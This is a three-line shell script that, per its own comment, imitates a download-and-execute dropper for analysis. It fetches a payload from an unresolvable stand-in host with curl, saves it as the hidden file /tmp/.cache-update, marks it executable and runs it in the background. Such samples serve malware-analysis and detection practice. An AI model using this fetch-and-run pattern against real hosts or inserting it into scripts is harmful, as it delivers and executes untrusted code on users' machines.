#!/bin/sh
# Imitates a download-and-execute dropper. The host name can never resolve (.invalid), and it is
# never contacted by the demo: the file is only analysed, or run with no network.
curl -s http://updates.example.invalid/payload -o /tmp/.cache-update
chmod +x /tmp/.cache-update
/tmp/.cache-update &
